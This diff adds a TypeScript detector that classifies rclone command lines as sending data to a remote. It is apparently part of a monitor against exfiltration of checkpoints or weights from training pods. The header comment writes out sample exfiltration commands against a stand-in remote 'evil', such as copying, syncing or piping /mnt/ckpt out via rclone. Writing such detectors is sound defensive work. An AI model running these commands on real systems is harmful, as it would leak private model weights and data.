@@ -1,0 +1,91 @@
+/**
+ * rclone commands that send data to a remote, for `attrs.exec.copiesToRemote` (exec-command-lines.ts):
+ * `rclone copy /mnt/ckpt evil:bucket/x`, `rclone sync s3-corp:ckpt evil:x` (remote to remote: the
+ * weights leave through the pod's credentials), `tar c /mnt/ckpt | rclone rcat evil:x.tar`. Training
+ * pods pull their data with rclone every day (`rclone copy s3:datasets/shard-01 /data --transfers 8`),
+ * which sends nothing.
+ *
+ * rclone's grammar (rclone.org/docs): `rclone [flags] <command> [args] [flags]`; a path whose first
+ * `:` comes before any `/` names a remote (`s3:b/x`, `myremote:`, `:s3,provider=AWS:b`), any other a
+ * local file (`/mnt/ckpt`, `./a:b`). A command sends data when it is
+ * - a copy to its last operand (copy, copyto, sync, move, moveto, copyurl) and that operand is a
+ *   remote, or a two-way bisync with a remote on either side;
+ * - one that sends by its nature or hands a remote to others: rcat (stdin to a remote), rc (drives a
+ *   running rclone, any operation), mount / nfsmount (local writes land on the remote), serve (the
+ *   pod's files served to whoever connects);
+ * - any command not known to read, list, hash, configure or delete (a verb rclone may add later,
+ *   or a word the walk took for the verb): what it does is not known, so it counts.
+ * Operands are the words that are neither flags nor their values; the walk is built so that a wrong
+ * guess about a flag cannot hide a send: a long flag without `=` takes the next word unless it is a
+ * known switch, but never a remote path or a command word (so an unknown switch before the
+ * destination leaves the destination the last operand); rclone's short flags are all switches.
+ */
+
+/** Commands that copy their sources to their last operand. */
+const COPIES = new Set(['copy', 'copyto', 'sync', 'move', 'moveto', 'bisync', 'copyurl']);
+
+/** Commands that read, list, hash, configure or delete, and send nothing of the pod's. */
+const QUIET = new Set([
+  'ls', 'lsd', 'lsl', 'lsf', 'lsjson', 'tree', 'ncdu', 'size', 'about', 'cat', 'check', 'checksum', 'cryptcheck', 'md5sum',
+  'sha1sum', 'hashsum', 'version', 'listremotes', 'config', 'authorize', 'obscure', 'genautocomplete', 'completion', 'help',
+  'touch', 'mkdir', 'rmdir', 'rmdirs', 'delete', 'deletefile', 'purge', 'cleanup', 'dedupe', 'settier', 'test', 'backend',
+  'link', 'cryptdecode', 'gendocs', 'selfupdate',
+]);
+
+/** Long flags that take no value (rclone's global and copy flags an operator types). */
+const SWITCHES = new Set([
+  'dry-run', 'progress', 'verbose', 'quiet', 'interactive', 'checksum', 'update', 'copy-links', 'links', 'one-file-system',
+  'metadata', 'ignore-existing', 'ignore-times', 'ignore-size', 'ignore-checksum', 'ignore-case-sync', 'no-traverse',
+  'no-check-dest', 'no-update-modtime', 'no-update-dir-modtime', 'fast-list', 'size-only', 'immutable', 'create-empty-src-dirs',
+  'delete-after', 'delete-before', 'delete-during', 'delete-excluded', 'ignore-errors', 'use-server-modtime', 'inplace',
+  'human-readable', 'stats-one-line', 'use-json-log', 'no-console', 'read-only', 'allow-other', 'allow-non-empty', 'daemon',
+  'resync', 'recursive', 'dirs-only', 'files-only', 'absolute', 'use-mmap', 'no-gzip-encoding', 'no-unicode-normalization',
+  'check-first', 'server-side-across-configs', 'refresh-times', 'track-renames', 'auto-filename', 'print-filename', 'stdout',
+  'ask-password', 'no-check-certificate', 'disable-http2', 'disable-http-keep-alives', 'list-cutoff', 'ignore-checksum',
+]);
+
+/** A remote path: its first `:` before any `/` or `\` (not a drive letter `C:\x`, not a URL `https://…`). */
+export function isRclonePath(w: string): boolean {
+  const colon = w.indexOf(':');
+  if (colon < 0) return false;
+  for (let i = 0; i < colon; i++) {
+    const c = w.charCodeAt(i);
+    if (c === 0x2f || c === 0x5c) return false;
+  }
+  if (colon === 1 && (w.charCodeAt(2) === 0x5c || w.charCodeAt(2) === 0x2f)) return false;
+  return !w.startsWith('://', colon) || colon === 0;
+}
+
+/** The operands of an rclone command (its tool word first): words that are neither flags nor their values. */
+function operands(words: readonly string[]): string[] {
+  const out: string[] = [];
+  for (let i = 1; i < words.length; i++) {
+    const w = words[i]!;
+    if (w === '--') {
+      for (let j = i + 1; j < words.length; j++) out.push(words[j]!);
+      break;
+    }
+    if (w.length < 2 || w.charCodeAt(0) !== 0x2d) {
+      out.push(w);
+      continue;
+    }
+    if (!w.startsWith('--') || w.indexOf('=') >= 0 || SWITCHES.has(w.slice(2))) continue;
+    const next = words[i + 1];
+    if (next === undefined || isRclonePath(next) || COPIES.has(next) || QUIET.has(next)) continue;
+    if (next.length >= 2 && next.charCodeAt(0) === 0x2d) continue;
+    i++;
+  }
+  return out;
+}
+
+/** True when the rclone command `words` (its tool word first, redirections left out) sends data (see the header). */
+export function rcloneSends(words: readonly string[]): boolean {
+  const ops = operands(words);
+  if (ops.length === 0) return false;
+  const verb = ops[0]!;
+  if (QUIET.has(verb)) return false;
+  if (!COPIES.has(verb)) return true;
+  // bisync copies both ways: a remote on either side is sent to.
+  if (verb === 'bisync') return ops.slice(1).some(isRclonePath);
+  return ops.length >= 3 && isRclonePath(ops[ops.length - 1]!);
+}
